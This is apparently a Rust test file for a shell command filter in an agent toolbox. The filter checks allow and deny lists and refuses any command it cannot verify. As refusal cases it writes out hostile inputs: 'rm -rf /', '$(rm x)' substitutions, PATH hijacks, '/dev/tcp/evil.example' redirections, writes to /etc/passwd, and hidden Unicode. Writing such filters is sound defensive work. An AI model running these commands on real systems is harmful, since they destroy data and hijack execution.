//! The command filter: exactly the checked commands run, and those that can't be checked do not.

use ag_ui_lit_toolbox::bash::{CommandFilter, CommandLine};
use proptest::prelude::*;

fn texts(list: &[&str]) -> Vec<String> {
    list.iter().map(|text| (*text).to_owned()).collect()
}

fn allowing(allow: &[&str]) -> CommandFilter {
    CommandFilter::new(Some(&texts(allow)), &[]).unwrap()
}

fn denying(deny: &[&str]) -> CommandFilter {
    CommandFilter::new(None, &texts(deny)).unwrap()
}

/// The commands that pass although they must not.
fn passed<'a>(filter: &CommandFilter, commands: &[&'a str]) -> Vec<&'a str> {
    let passes = |command: &&&str| filter.check(command).is_ok();
    commands.iter().filter(passes).copied().collect()
}

#[test]
fn allowed_lines_are_printed_from_their_parsed_form() {
    let filter = allowing(&[
        "ls *",
        "git status",
        "echo *",
        "grep *",
        "npm run test:*",
        "CI=1 npm *",
        "> out/*",
        "< in/*",
    ]);
    for (command, printed) in [
        ("ls", "ls"),
        ("ls   -la  'a b'", "ls -la 'a b'"),
        ("git status && ls", "git status && ls"),
        ("ls|grep -v x;git status", "ls | grep -v x; git status"),
        ("ls || echo no;", "ls || echo no"),
        ("\n ls\n\necho a |\n\n grep a\n", "ls; echo a | grep a"),
        ("\\ls", "ls"),
        ("l\"s\" 'a' \"b\"'c'd", "ls a bcd"),
        ("npm run test:unit", "npm run test:unit"),
        ("CI=1 npm ci", "CI=1 npm ci"),
        ("echo \"it's\"", "echo 'it'\\''s'"),
        (
            "echo \"a \\\" \\$ \\` \\\\ \\n $\"",
            "echo 'a \" $ ` \\ \\n $'",
        ),
        ("echo a\\ b \\;", "echo 'a b' ';'"),
        ("echo '' \"\" x''", "echo '' '' x"),
        (
            "echo '$(rm x)' '`rm`' '*' '~'",
            "echo '$(rm x)' '`rm`' '*' '~'",
        ),
        (
            "echo HEAD~1 a#b {} x^ !=",
            "echo 'HEAD~1' 'a#b' '{}' 'x^' '!='",
        ),
        ("echo hi! ! \"a!!\"", "echo 'hi!' '!' 'a!!'"),
        ("echo =x if", "echo '=x' if"),
        ("echo 漢字 \"é\"", "echo '漢字' 'é'"),
        ("echo a>out/a.txt", "echo a > out/a.txt"),
        ("echo 2 >>'out/a b' 2>&1", "echo 2 >> 'out/a b' 2>&1"),
        ("echo a 2>/dev/null >&2", "echo a 2> /dev/null >&2"),
        ("grep a <in/x", "grep a < in/x"),
    ] {
        assert_eq!(filter.check(command), Ok(printed.to_owned()), "{command}");
    }
    // If everything may run, nothing is parsed.
    let anything = "for x in *; do $x; done";
    assert_eq!(
        CommandFilter::default().check(anything),
        Ok(anything.to_owned())
    );
}

#[test]
fn text_that_a_shell_could_read_differently_is_refused() {
    let filter = allowing(&["*", "> *", "< *"]);
    let commands = [
        // Expansions, quoted or not.
        "echo \"${x:-'$(rm x)'}\"",
        "echo $x",
        "echo \"$x\"",
        "echo \"a$'b'\"",
        "echo $(rm x)",
        "echo \"$(rm x)\"",
        "echo `rm x`",
        "echo \"`rm x`\"",
        "echo $((1 + 2))",
        "echo $'\\''",
        "echo $\"x\"",
        "echo ~ ",
        "echo x:~/y",
        "A=~ ls",
        "echo *.txt",
        "echo a?",
        "echo [a]",
        "echo a[1]",
        "echo {a,b}",
        "echo {1..3}",
        "echo !!",
        "echo !x",
        // Here documents and other input.
        "cat <<E $(rm x)",
        "cat <<\"E\\OF\"\n$(rm x)\nE\\OF",
        "cat <<E\\\nOF\n$(rm x)\nEOF",
        "cat <<'E'\nx\nE",
        "cat <<-$(\t",
        "cat << \r ",
        "cat <<<x",
        "cat <&0",
        "cat <>x",
        "echo <(true)# $(rm x)",
        "ls > >(rm x)",
        "ls &> x",
        "ls >& x",
        "ls >| x",
        "ls 3> x",
        "ls 2>&-",
        "ls >",
        "> x",
        "ls < /dev/tcp/evil.example/80",
        "ls > /dev/udp/evil.example/80",
        "ls > ../x",
        "ls > /etc/../x",
        "ls > a//b",
        "ls > ''",
        // Compound commands, definitions and jobs.
        "for PATH in /evil; do ls; done",
        "(ls)",
        "{ ls; }",
        "! ls",
        "if ls; then ls; fi",
        "ls() { rm x; }",
        "function ls { rm x; }",
        "[[ x ]]",
        "((x))",
        "time ls",
        "coproc ls",
        "ls & rm x",
        "ls |& rm x",
        "ls;; ls",
        "ls | | ls",
        "&& ls",
        "ls &&",
        "ls |",
        ";",
        "",
        "ls\n; ls",
        // Variables, and words that are not a program's name.
        "PATH=/evil ls",
        "x=1",
        "A+=b ls",
        "a[1]=b ls",
        "a=(b) ls",
        "'A=b' ls",
        "A'='b ls",
        "'' x",
        "-c x",
        "'{' x",
        // Quotes, lines, comments, and invisible characters.
        "echo 'x",
        "echo \"x",
        "echo x\\",
        "echo a\\\nb",
        "echo 'a\nb'",
        "echo \"a\nb\"",
        "ls # rm",
        "#ls",
        "ls\trm",
        "ls\r",
        "ls \u{0}",
        "echo '\u{1b}[2K'",
        "echo '\u{7f}'",
        "echo '\u{85}'",
        "echo a\u{a0}b",
        "echo 'a\u{3000}b'",
        "echo '\u{202e}txt'",
        "echo 'a\u{200b}b'",
        "echo '\u{feff}'",
        "echo '\u{e0041}'",
        "echo '\u{fffd}'",
        "echo '\u{115f}'",
    ];
    assert_eq!(passed(&filter, &commands), [""; 0]);
}

#[test]
fn every_command_has_to_be_listed() {
    let filter = allowing(&["ls *", "git status", "echo *", "true", "x=* ls", "> out/*"]);
    let commands = [
        "rm -rf /",
        "ls; rm x",
        "ls && rm x",
        "ls || rm x",
        "ls | rm x",
        "ls\nrm x",
        "echo a; r\\m x",
        "r''m x",
        "git status --short",
        "git 'status x'",
        "'git status'",
        "./ls",
        "/tmp/ls",
        "PATH=/tmp ls",
        "x=1 ls -la",
        "x=1 y=2 ls",
        "x=1 echo",
        "ls > /etc/passwd",
        "ls > out/../x",
        "ls < out/x",
        "ls > 'out'",
        "ls 2> x",
    ];
    assert_eq!(passed(&filter, &commands), [""; 0]);
    // A pattern of words matches words, and neither variables nor files.
    let open = allowing(&["* *"]);
    assert_eq!(
        passed(&open, &["A=b ls", "ls > x", "ls < x", "PATH=/evil A=b ls"]),
        [""; 0]
    );
    assert_eq!(
        open.check("ls 2>/dev/null"),
        Ok("ls 2> /dev/null".to_owned())
    );
}

/// Programs that run others or change the meaning of later words, each with any arguments.
const SPECIAL: [&str; 47] = [
    ". *",
    "[ *",
    "alias *",
    "bash *",
    "builtin *",
    "busybox *",
    "cd *",
    "command *",
    "coproc *",
    "declare *",
    "enable *",
    "env *",
    "eval *",
    "exec *",
    "export *",
    "fc *",
    "find *",
    "flock *",
    "getopts *",
    "hash *",
    "jobs *",
    "let *",
    "local *",
    "ls",
    "mapfile *",
    "nice *",
    "nohup *",
    "printf *",
    "read *",
    "readonly *",
    "set *",
    "setsid *",
    "sh *",
    "shopt *",
    "source *",
    "stdbuf *",
    "sudo *",
    "test *",
    "time *",
    "timeout *",
    "trap *",
    "typeset *",
    "ulimit *",
    "unset *",
    "wait *",
    "watch *",
    "xargs *",
];

#[test]
fn a_program_that_runs_another_can_not_hide_it() {
    let filter = allowing(&[&SPECIAL[..], &["A=b ls -l"]].concat());
    let commands = [
        "env rm x",
        "env A=b rm x",
        "env A=b ls",
        "env PATH=/evil ls",
        "env -u A rm x",
        "env -S 'rm x'",
        "env - -u A ls",
        "env -S'rm x' ls",
        "env --split-string='rm x' ls",
        "env --sp='rm x' ls",
        "env -iS 'rm x'",
        "env -a ls rm x",
        "env --argv0 ls rm x",
        "env -C /evil ls",
        "env -iu A rm x",
        "sudo rm x",
        "sudo -s ls",
        "sudo -i ls",
        "sudo -u root env nice rm x",
        "sudo -nu root rm x",
        "sudo A=b ls",
        "nohup A=b ls",
        "nohup A=b ls -l",
        "sudo A=b ls -l",
        "nohup nohup rm x",
        "nice -vn 5 rm x",
        "nice --adj 5 rm x",
        "timeout 5 rm x",
        "timeout -k 1 5 rm x",
        "timeout -vk 1 5 rm x",
        "time rm x",
        "'time' ls",
        "setsid -w rm x",
        "flock x ls",
        "command rm -v",
        "command -p rm",
        "builtin printf -v PATH x",
        "xargs rm",
        "xargs -I {} rm {}",
        "xargs -I ls ls x",
        "xargs -Ils ls x",
        "xargs -0I {} rm {}",
        "xargs --max-lines 1 ls",
        "xargs -i ls",
        "xargs sh -c 'ls'",
        // The input becomes arguments, and `ls` is listed without any.
        "xargs ls",
        "xargs find",
        "xargs nice",
        "xargs nice -n",
        "xargs timeout",
        "xargs timeout 5",
        "xargs timeout -k",
        "xargs env",
        "xargs env -u",
        "xargs env A=b",
        "xargs xargs",
        "xargs command",
        "xargs printf",
        "find . -exec find {} \\;",
        "find . -exec nice -n {} \\;",
        "find . -exec rm {} \\;",
        "find . -exec {} \\;",
        "find . -execdir ls {} ';' -exec rm x ';'",
        "find . -exec ls + rm {} +",
        "find . -ok ls {} + rm x ';'",
        "find . -exec sh -c ls \\;",
        "find . -exec rm",
        "sh -c 'ls'",
        "/bin/sh -c ls",
        "sh script.sh",
        "bash x",
        "busybox ls",
        "watch ls",
        "eval ls",
        ". ./x",
        "source x",
        "exec ls",
        "alias ls=rm",
        "trap 'rm x' EXIT",
        "export PATH=/evil; ls",
        "readonly 'a[$(rm x)]=1'",
        "declare -n x=PATH",
        "local x=1",
        "typeset x=1",
        "let x=1",
        "read PATH < /dev/null",
        "mapfile x",
        "getopts x PATH",
        "unset PATH",
        "set -- x",
        "shopt -s extglob",
        "hash -p /evil ls",
        "enable -f x y",
        "jobs -x rm",
        "fc -s",
        "wait -n -p PATH",
        "ulimit -f 0",
        "printf -v PATH /evil; ls",
        "printf -vPATH /evil; ls",
        "printf '%n' PATH; ls",
        "printf 'a%5$n' PATH",
        "printf -- '%-3hhn' PATH; ls",
        "test -v 'a[$(rm x)]'",
        "[ -v x ]",
        "test -R x",
        "test 'a[`rm x`]' -eq 1",
        "cd /evil; ./ls",
    ];
    assert_eq!(passed(&filter, &commands), [""; 0]);
}

#[test]
fn a_program_that_runs_an_allowed_one_is_allowed() {
    let filter = allowing(&[&SPECIAL[..], &["ls *", "A=b ls *", "./x", "/bin/x"]].concat());
    for command in [
        "nohup ls",
        "env ls -la",
        "env A=b ls -la",
        "env -i -u A ls",
        "nice -n 5 ls",
        "nice -n5 ls",
        "timeout --signal=KILL 5 ls",
        "timeout -k 1 5 ls",
        "timeout -s9 5 ls",
        "xargs -n1 ls",
        "xargs -I '{}' ls '{}' x",
        "command -v rm",
        "command ls",
        "printf '%s' 'a[1]'",
        "printf '100%% new %d' 1",
        "test -f x",
        "[ -f x ]",
        "[ a != b ]",
        "find . -name '*.rs'",
        "find . -exec ls '{}' +",
        "find . -exec ls '{}' ';' -exec nice ls ';'",
        "sudo -u root nice ls",
        "cd src && ls -la",
        "cd /src; /bin/x",
    ] {
        assert_eq!(filter.check(command).err(), None, "{command}");
    }
}

#[test]
fn commands_that_change_the_shell_may_run_if_listed_word_for_word() {
    let filter = allowing(&["set -e", "export CI=1", "sh build.sh", "ls *", "export *"]);
    assert_eq!(
        filter.check("set -e; export CI=1; ls"),
        Ok("set -e; export CI=1; ls".to_owned())
    );
    assert_eq!(filter.check("sh build.sh"), Ok("sh build.sh".to_owned()));
    assert_eq!(
        passed(
            &filter,
            &["set -x", "export PATH=x", "sh -e build.sh", "sh build.sh x"]
        ),
        [""; 0]
    );
    let refused = filter.check("export PATH=x").unwrap_err();
    assert!(refused.contains("can't be checked here"), "{refused}");
}

#[test]
fn denied_commands_are_found_at_any_place() {
    let filter = denying(&["rm *", "git push *", "curl *", "> /etc/*"]);
    let commands = [
        "rm x",
        "/bin/rm x",
        "ls; rm",
        "r\"m\" x",
        "\\rm x",
        "A=b rm x",
        "env A=b /usr/bin/rm x",
        "sudo rm x",
        "xargs -n 1 rm -f",
        "git push",
        "xargs git",
        "nice -n 5 curl x",
        "find . -name x -exec rm '{}' +",
        "ls > /etc/passwd",
        "ls > //etc/passwd",
        // Commands that can't be checked.
        "bash -c 'git push --force'",
        "busybox rm x",
        "eval rm",
        "git $X",
        "$X",
        "echo \"${x:-'$(rm x)'}\"",
    ];
    assert_eq!(passed(&filter, &commands), [""; 0]);
    for command in [
        "ls",
        "git pull",
        "echo rm",
        "grep 'rm x' file",
        "ls > x",
        "A=b ls",
    ] {
        assert_eq!(filter.check(command), Ok(command.to_owned()), "{command}");
    }
}

#[test]
fn deny_wins_and_a_refusal_has_a_way_to_write_the_command() {
    let filter = CommandFilter::new(Some(&texts(&["git *"])), &texts(&["git push *"])).unwrap();
    assert!(filter.check("git log").is_ok());
    let denied = filter.check("git push -f").unwrap_err();
    assert!(
        denied.contains("denies `git push -f`") && denied.contains("Allowed: git *"),
        "{denied}"
    );
    let refused = filter.check("make").unwrap_err();
    assert!(refused.contains("does not allow `make`"), "{refused}");
    let unclear = filter.check("git log $x").unwrap_err();
    assert!(
        unclear.contains("$ has a special meaning at character 9")
            && unclear.contains("single quotes")
            && unclear.contains("Allowed: git *"),
        "{unclear}"
    );
    let hidden = filter.check("git log \u{202e}").unwrap_err();
    assert!(
        hidden.contains("U+202E") && !hidden.contains('\u{202e}'),
        "{hidden}"
    );
    assert!(CommandFilter::new(Some(&texts(&["ls", " "])), &[]).is_err());
}

#[test]
fn long_and_nested_lines_take_one_pass() {
    let filter = allowing(&["ls *", "nohup *", "find *"]);
    let deep = |open: &str, close: &str| format!("{}ls{}", open.repeat(2_000), close.repeat(2_000));
    for command in [
        deep("(", ")"),
        deep("$(", ")"),
        deep("{ ", "; }"),
        deep("${x:-", "}"),
        "`".repeat(9_000),
        "if ls; then ".repeat(800),
        "<<E ".repeat(2_000),
        "cat <<-$(\t".repeat(900),
        "cat << \r ".repeat(1_000),
        "'\"".repeat(2_000),
        "nohup ".repeat(1_600) + "ls",
        "find -exec ".repeat(800) + "ls ;",
        "ls;".repeat(201),
        format!("ls {}", "x".repeat(10_000)),
    ] {
        assert!(filter.check(&command).is_err(), "{command}");
    }
    let quotes = format!("ls {}", "\\'".repeat(4_900));
    assert_eq!(
        filter.check(&quotes).map(|text| text.len()),
        Ok(5 + 4 * 4_900)
    );
    assert!(filter.check(&"ls;".repeat(200)).is_ok());
}

proptest! {
    #[test]
    fn a_printed_line_is_read_as_the_same_line(text in r#"[a-z$(){}\[\]`'"\\<>|&;!#*?=~^%@é \n0-2-]{0,60}"#) {
        if let Ok(line) = CommandLine::read(&text) {
            let printed = line.to_string();
            prop_assert_eq!(CommandLine::read(&printed), Ok(line));
            prop_assert!(!printed.contains(['\n', '\t']));
        }
    }

    #[test]
    fn lines_that_pass_only_run_listed_commands(inner in "[a-km-rt-z]{2,6}", place in 0..7_usize) {
        // Without letters of `ls`, so it is never the allowed command.
        let command = match place {
            0 => format!("ls; {inner}"),
            1 => format!("ls $({inner})"),
            2 => format!("ls \"`{inner}`\""),
            3 => format!("ls | {inner} | ls"),
            4 => format!("(ls && {inner})"),
            5 => format!("ls\n{inner}"),
            _ => format!("ls <({inner})"),
        };
        prop_assert!(allowing(&["ls *"]).check(&command).is_err());
    }
}
